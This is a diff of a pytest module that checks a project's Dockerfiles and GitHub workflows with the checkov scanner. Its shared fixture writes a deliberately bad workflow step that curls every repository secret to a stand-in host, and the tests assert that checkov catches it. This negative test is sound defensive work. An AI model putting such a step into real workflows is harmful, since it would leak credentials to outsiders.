@@ -8,7 +8,7 @@
 
 Each tool is also shown a deliberately bad file and must object, so a tool that silently checks
 nothing cannot pass. The rendered Kubernetes manifests are checked by checkov in
-``tests/infra/test_aks_manifests.py``.
+``tests/infra/targets/aks/test_manifests.py``.
 
 checkov cannot live in the project venv: it pins ``packaging<24`` while pulumi needs ``>=26``.
 It is looked up as ``$CHECKOV``, ``checkov`` on the PATH or ``.local/checkov/bin/checkov`` (the
@@ -24,6 +24,8 @@ import re
 import shutil
 import subprocess
 import sys
+from collections.abc import Iterable, Sequence
+from dataclasses import dataclass
 from pathlib import Path
 from typing import Any
 
@@ -161,11 +163,14 @@ def checkov() -> str:
     return str(venv / "bin" / "checkov")
 
 
-def run_checkov(checkov: str, framework: str, *targets: str) -> dict[str, Any]:
+def checkov_reports(
+    checkov: str, frameworks: Sequence[str], *targets: str
+) -> dict[str, dict[str, Any]]:
+    """checkov's JSON report of one run over ``targets``, per framework (its ``check_type``)."""
     done = run(
         checkov,
         "--framework",
-        framework,
+        *frameworks,
         *targets,
         "--compact",  # not --quiet: the report must list skipped checks too
         "--skip-download",  # offline: no guideline download from the vendor's platform
@@ -175,14 +180,93 @@ def run_checkov(checkov: str, framework: str, *targets: str) -> dict[str, Any]:
     assert done.stdout.strip(), done.stderr[-2000:]
     report = json.loads(done.stdout)
     reports = report if isinstance(report, list) else [report]
-    found = [r for r in reports if r.get("check_type") == framework]
-    assert len(found) == 1, reports
-    return found[0]
+    found = {f: [r for r in reports if r.get("check_type") == f] for f in frameworks}
+    assert all(len(r) == 1 for r in found.values()), reports
+    return {f: r for f, (r,) in found.items()}
+
+
+def run_checkov(checkov: str, framework: str, *targets: str) -> dict[str, Any]:
+    return checkov_reports(checkov, [framework], *targets)[framework]
+
+
+CHECK_KINDS = ("passed", "failed", "skipped")
+
+
+def _file_of(check: dict[str, Any]) -> Path:
+    return Path(check["file_abs_path"]).resolve()
+
+
+def _part(report: dict[str, Any], paths: Iterable[Path]) -> dict[str, Any]:
+    """What a report on several files says about ``paths``: their checks (each carries its
+    file's ``file_abs_path``), and the summary's counts taken over those checks."""
+    keep = {p.resolve() for p in paths}
+    results = {
+        f"{kind}_checks": [c for c in report["results"][f"{kind}_checks"] if _file_of(c) in keep]
+        for kind in CHECK_KINDS
+    }
+    return {
+        "check_type": report["check_type"],
+        "results": results,
+        "summary": {kind: len(results[f"{kind}_checks"]) for kind in CHECK_KINDS},
+    }
+
+
+@dataclass(frozen=True)
+class CheckovScan:
+    reports: dict[str, dict[str, Any]]  # by framework
+    workflows: list[Path]
+    bad_dockerfile: Path
+    bad_workflow: Path
+
+    def part(self, framework: str, paths: Iterable[Path]) -> dict[str, Any]:
+        return _part(self.reports[framework], paths)
+
+
+@pytest.fixture(scope="module")
+def checkov_scan(checkov: str, tmp_path_factory: pytest.TempPathFactory) -> CheckovScan:
+    """One checkov run for the three checkov tests below (each start of checkov costs seconds of
+    CPU): our Dockerfiles and workflows, and a bad Dockerfile and a bad workflow.
+
+    The report is split per file, which is honest for these two frameworks only: no dockerfile or
+    github_actions check joins resources (their graph checks are all attribute checks), so a
+    file's checks are the ones a run on it alone reports. The kubernetes and arm graph checks
+    connect resources across a run's files: the manifests and ARM templates get runs of their own
+    (``tests/infra/targets/aks/test_manifests.py``, ``test_azure_checks.py``). Checked here for
+    every framework: each file given has checks and no check is of another file, and checkov's own
+    counts are the sum of the files' parts, so nothing falls between the parts."""
+    bad = tmp_path_factory.mktemp("checkov-bad")
+    bad_dockerfile = bad / "Dockerfile"
+    bad_dockerfile.write_text("FROM python:3.11\nUSER root\nCOPY . /app\n")
+    bad_workflow = bad / ".github" / "workflows" / "bad.yml"
+    bad_workflow.parent.mkdir(parents=True)
+    bad_workflow.write_text(
+        "on: workflow_dispatch\n"
+        "jobs:\n  x:\n    runs-on: ubuntu-24.04\n    steps:\n"
+        '      - run: curl -d "$T" https://example.invalid\n'
+        "        env:\n          T: ${{ toJSON(secrets) }}\n"
+    )
+    # -f, not -d (checkov takes one or the other): every workflow file -d would find
+    workflows_dir = ROOT / ".github" / "workflows"
+    workflows = sorted([*workflows_dir.glob("*.yml"), *workflows_dir.glob("*.yaml")])
+    files = {
+        "dockerfile": [*DOCKERFILES, bad_dockerfile],
+        "github_actions": [*workflows, bad_workflow],
+    }
+    targets = [a for paths in files.values() for p in paths for a in ("-f", str(p))]
+    reports = checkov_reports(checkov, list(files), *targets)
+    for framework, paths in files.items():
+        report = reports[framework]
+        checks = [c for kind in CHECK_KINDS for c in report["results"][f"{kind}_checks"]]
+        assert {_file_of(c) for c in checks} == {p.resolve() for p in paths}, framework
+        whole = _part(report, paths)["summary"]
+        assert whole == {kind: report["summary"][kind] for kind in CHECK_KINDS}, framework
+        assert report["summary"]["parsing_errors"] == 0, framework
+    return CheckovScan(reports, workflows, bad_dockerfile, bad_workflow)
 
 
 def _failed(report: dict[str, Any]) -> list[str]:
     return [
-        f"{c['check_id']} {c['file_path']}:{c['file_line_range']} {c['check_name']}"
+        f"{c['check_id']} {c['file_abs_path']}:{c['file_line_range']} {c['check_name']}"
         for c in report["results"]["failed_checks"]
     ]
 
@@ -194,37 +278,29 @@ def _skips_are_justified(report: dict[str, Any]) -> None:
         assert reason.strip() and "No comment provided" not in reason, c["check_id"]
 
 
-def test_checkov_dockerfiles(checkov: str):
-    args = [a for p in DOCKERFILES for a in ("-f", str(p))]
-    report = run_checkov(checkov, "dockerfile", *args)
-    assert report["summary"]["resource_count"] == len(DOCKERFILES)
+def test_checkov_dockerfiles(checkov_scan: CheckovScan):
+    report = checkov_scan.part("dockerfile", DOCKERFILES)
+    # one resource per Dockerfile: ours, and the bad one of test_checkov_flags_bad_files
+    assert checkov_scan.reports["dockerfile"]["summary"]["resource_count"] == len(DOCKERFILES) + 1
+    assert {_file_of(c) for c in report["results"]["passed_checks"]} == set(DOCKERFILES)
     assert report["summary"]["passed"] > 0
     assert _failed(report) == [] and report["summary"]["failed"] == 0
     _skips_are_justified(report)
 
 
-def test_checkov_workflows(checkov: str):
-    report = run_checkov(checkov, "github_actions", "-d", str(ROOT / ".github" / "workflows"))
+def test_checkov_workflows(checkov_scan: CheckovScan):
+    report = checkov_scan.part("github_actions", checkov_scan.workflows)
     assert report["summary"]["passed"] > 0
     assert _failed(report) == [] and report["summary"]["failed"] == 0
     _skips_are_justified(report)
 
 
-def test_checkov_flags_bad_files(checkov: str, tmp_path: Path):
-    (tmp_path / "Dockerfile").write_text("FROM python:3.11\nUSER root\nCOPY . /app\n")
-    report = run_checkov(checkov, "dockerfile", "-f", str(tmp_path / "Dockerfile"))
+def test_checkov_flags_bad_files(checkov_scan: CheckovScan):
+    report = checkov_scan.part("dockerfile", [checkov_scan.bad_dockerfile])
     assert {"CKV_DOCKER_2", "CKV_DOCKER_8"} <= {
         c["check_id"] for c in report["results"]["failed_checks"]
     }
-    wf = tmp_path / ".github" / "workflows" / "bad.yml"
-    wf.parent.mkdir(parents=True)
-    wf.write_text(
-        "on: workflow_dispatch\n"
-        "jobs:\n  x:\n    runs-on: ubuntu-24.04\n    steps:\n"
-        '      - run: curl -d "$T" https://example.invalid\n'
-        "        env:\n          T: ${{ toJSON(secrets) }}\n"
-    )
-    report = run_checkov(checkov, "github_actions", "-d", str(tmp_path / ".github" / "workflows"))
+    report = checkov_scan.part("github_actions", [checkov_scan.bad_workflow])
     assert _failed(report), "checkov accepted a workflow that posts every secret"
 
 
